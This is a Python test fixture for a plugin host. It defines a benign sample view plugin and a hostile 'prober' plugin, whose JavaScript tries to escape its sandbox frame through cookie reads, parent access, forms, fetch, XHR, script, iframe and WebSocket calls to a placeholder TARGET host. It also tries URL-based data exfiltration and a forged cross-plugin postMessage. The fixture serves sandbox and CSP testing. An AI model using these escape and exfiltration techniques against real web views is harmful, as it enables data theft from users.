"""Real plugins with custom views for the host service's tests: ``acme.viewer`` (a well-behaved
board whose ``@view`` handler echoes, raises and counts) and ``acme.prober`` (a hostile view
whose script tries every way out of its frame and reports what happened through the bridge).
Both are packed, signed and published to a test market like the other sample plugins."""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import Any

from tests.host._service import Market, Service, wait_for

VIEWER = "acme.viewer"
BOARD = "viewer.board"
VIEWER_CODE = """\
from plugport.sdk import Plugin, view


class Main(Plugin):
    @view("viewer.board")
    def board(self, request):
        if request.action == "fail":
            raise ValueError("the board cannot do that")
        if request.action == "bytes":
            return b"not json"
        return {
            "plugin": "acme.viewer",
            "view": request.id,
            "surface": request.surface,
            "action": request.action,
            "payload": dict(request.payload),
            "workspace": request.workspace,
        }
"""
VIEWER_MANIFEST = """\
[permissions]
ui = ["custom_view"]

[[contributes.views]]
id = "viewer.board"
title = "Board"
file = "ui/board.html"
height_px = 420
"""
BOARD_HTML = """\
<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Board</title>
<link rel="stylesheet" href="board.css">
</head>
<body>
<h1>Board</h1>
<img src="logo.svg" alt="Board logo">
<p id="out">waiting</p>
<script src="board.js"></script>
</body>
</html>
"""
BOARD_JS = """\
document.getElementById("out").textContent = "loaded";
window.plugport.call("echo", { n: 41 }).then(function (answer) {
  document.body.setAttribute("data-answer", JSON.stringify(answer));
});
"""
VIEWER_FILES = {
    "ui/board.html": BOARD_HTML,
    "ui/board.js": BOARD_JS,
    "ui/board.css": "body { color: var(--text); background: var(--bg); }\n",
    "ui/logo.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
        '<rect width="8" height="8" fill="#1f4fd1"/></svg>\n'
    ),
    "ui/data.json": '{"rows": [1, 2, 3]}\n',
    "ui/notes.txt": "a text file: not a type a view may load\n",
    "ui/page.html": "<p>another HTML file: only the declared one is a document</p>\n",
    "ui/lib/deep.js": "window.deep = true;\n",
    "outside.js": "window.outside = true;  // outside the view's folder\n",
}

PROBER = "acme.prober"
PROBE = "prober.probe"
ESCAPE = "prober.escape"
PROBER_CODE = """\
from plugport.sdk import Plugin, view


class Main(Plugin):
    @view("prober.probe")
    def probe(self, request):
        return {"plugin": "acme.prober", "action": request.action, "payload": dict(request.payload)}

    @view("prober.escape")
    def escape(self, request):
        return {"plugin": "acme.prober", "action": request.action}
"""
PROBER_MANIFEST = """\
[permissions]
ui = ["custom_view"]

[[contributes.views]]
id = "prober.probe"
title = "Probe"
file = "probe/index.html"

[[contributes.views]]
id = "prober.escape"
title = "Escape"
file = "escape/index.html"
"""
PROBE_HTML = """\
<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Probe</title></head>
<body><p>probing</p>
<form id="form" method="post" action="TARGET/form"><input name="stolen" value="x"></form>
<script src="probe.js"></script>
</body></html>
"""
# Every way out of the frame this view can think of, each result written down; then the
# results go to the plugin's own handler through the bridge, which echoes them back, and the
# echo is put on the document for the test to read. The CSP violations the browser reports
# are collected too.
PROBE_JS = """\
(function () {
  "use strict";
  var T = "TARGET";
  var results = { violations: [] };
  document.addEventListener("securitypolicyviolation", function (e) {
    results.violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
  });
  function attempt(name, action) {
    try { results[name] = "allowed: " + String(action()); }
    catch (error) { results[name] = "threw " + error.name; }
  }
  function settle(name, promise) {
    return promise.then(
      function (value) { results[name] = "allowed: " + value; },
      function (error) { results[name] = "failed " + error.name; }
    );
  }

  results.origin = String(window.origin);
  results.bridge = typeof window.plugport;
  results.theme_accent = window.plugport && window.plugport.theme.accent;
  results.css_accent = getComputedStyle(document.documentElement)
    .getPropertyValue("--accent").trim();

  attempt("cookie", function () { return document.cookie; });
  attempt("parent_document", function () { return parent.document.title; });
  attempt("parent_location", function () { return parent.location.href; });
  attempt("local_storage", function () { return window.localStorage.length; });
  attempt("top_navigation", function () { top.location = T + "/top"; return "no error"; });
  attempt("window_open", function () {
    return window.open(T + "/open") === null ? "null" : "a window";
  });
  attempt("form_submit", function () {
    document.getElementById("form").submit();
    return "no error";
  });
  attempt("websocket", function () {
    new WebSocket(T.replace("http", "ws") + "/ws");
    return "created";
  });

  var waits = [
    settle("fetch", fetch(T + "/fetch").then(function (r) { return r.status; })),
    settle("fetch_same_host", fetch("/api/v1/workspaces").then(function (r) { return r.status; })),
    new Promise(function (resolve) {
      var xhr = new XMLHttpRequest();
      try {
        xhr.open("GET", T + "/xhr");
        xhr.onload = function () { results.xhr = "allowed: " + xhr.status; resolve(); };
        xhr.onerror = function () { results.xhr = "failed error"; resolve(); };
        xhr.send();
      } catch (error) { results.xhr = "threw " + error.name; resolve(); }
    }),
    new Promise(function (resolve) {
      var img = new Image();
      img.onload = function () { results.img = "allowed"; resolve(); };
      img.onerror = function () { results.img = "failed error"; resolve(); };
      img.src = T + "/img";
      document.body.appendChild(img);
    }),
    new Promise(function (resolve) {
      var script = document.createElement("script");
      script.onload = function () { results.script = "allowed"; resolve(); };
      script.onerror = function () { results.script = "failed error"; resolve(); };
      script.src = T + "/script.js";
      document.body.appendChild(script);
    }),
    new Promise(function (resolve) {
      var frame = document.createElement("iframe");
      frame.src = T + "/frame";
      document.body.appendChild(frame);
      setTimeout(resolve, 50);
    })
  ];

  // A message that names another plugin and view: the host page must refuse it.
  var crafted = new Promise(function (resolve) {
    window.addEventListener("message", function (event) {
      if (event.data && event.data.type === "result" && event.data.id === 900001) {
        results.crafted = event.data.ok ? "answered: " + JSON.stringify(event.data.value)
                                        : "refused: " + event.data.error;
        resolve();
      }
    });
    parent.postMessage({ plugport: 1, type: "call", id: 900001, name: "echo", payload: {},
                         plugin: "acme.viewer", view: "viewer.board" }, "*");
  });
  waits.push(crafted);

  Promise.all(waits).then(function () {
    // Let late violation reports arrive (they are queued as tasks).
    return new Promise(function (resolve) { setTimeout(resolve, 100); });
  }).then(function () {
    return window.plugport.call("report", results);
  }).then(function (answer) {
    document.body.setAttribute("data-report", JSON.stringify(answer));
  }, function (error) {
    document.body.setAttribute("data-report-error", String(error));
  });
})();
"""
ESCAPE_HTML = """\
<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Escape</title></head>
<body><p>leaving</p><script src="escape.js"></script></body></html>
"""
# Navigating its own frame elsewhere (a way to carry data off in a URL): the host page's
# frame-src must stop it.
ESCAPE_JS = """\
window.plugport.call("leaving", {}).then(function () {
  location.href = "TARGET/self?data=stolen";
});
"""


def _write_plugin(
    root: Path, name: str, *, code: str, manifest: str, files: dict[str, str], version: str
) -> Path:
    source = root / f"{name}-{version}"
    source.mkdir(parents=True)
    (source / "main.py").write_text(code)
    (source / "plugport.toml").write_text(
        f'name = "{name}"\nversion = "{version}"\nentry = "main:Main"\n'
        f'display_name = "{name}"\ndescription = "A plugin with a custom view."\n'
        + textwrap.dedent(manifest)
    )
    for path, text in files.items():
        (source / path).parent.mkdir(parents=True, exist_ok=True)
        (source / path).write_text(text)
    return source


def write_viewer(root: Path, version: str = "1.0.0") -> Path:
    return _write_plugin(
        root,
        VIEWER,
        code=VIEWER_CODE,
        manifest=VIEWER_MANIFEST,
        files=VIEWER_FILES,
        version=version,
    )


def write_prober(root: Path, target: str, version: str = "1.0.0") -> Path:
    files = {
        "probe/index.html": PROBE_HTML.replace("TARGET", target),
        "probe/probe.js": PROBE_JS.replace("TARGET", target),
        "escape/index.html": ESCAPE_HTML,
        "escape/escape.js": ESCAPE_JS.replace("TARGET", target),
    }
    return _write_plugin(
        root, PROBER, code=PROBER_CODE, manifest=PROBER_MANIFEST, files=files, version=version
    )


def publish_views(market: Market, *, target: str | None = None) -> None:
    """Publish ``acme.viewer`` (and ``acme.prober``, whose attacks aim at ``target``)."""
    src = market.root / "views-src"
    market.publish(write_viewer(src))
    if target is not None:
        market.publish(write_prober(src, target))


CONSENT = ["ui 'custom_view'"]


def install(service: Service, token: str, ws: str, plugin: str) -> None:
    with service.client(token) as api:
        body: dict[str, Any] = {"plugin": plugin, "consent": CONSENT}
        started = api.post(f"/api/v1/workspaces/{ws}/installations", json=body)
        assert started.status_code == 202, started.text
        done = wait_for(api, ws, started.json())
        assert done["state"] == "succeeded", done


def ui_calls(service: Service, ws: str, plugin: str) -> int:
    """How many UI calls (``@view`` and the other UI handlers) ``plugin`` has answered in
    ``ws``, from the runtime's own counters."""
    host = service.service.workspace(ws).host
    total = 0
    for family in host.supervisor.metrics.registry.collect():
        for sample in family.samples:
            if (
                sample.name == "plugport_plugin_calls_total"
                and sample.labels.get("plugin") == plugin
                and sample.labels.get("kind") == "ui"
            ):
                total += int(sample.value)
    return total
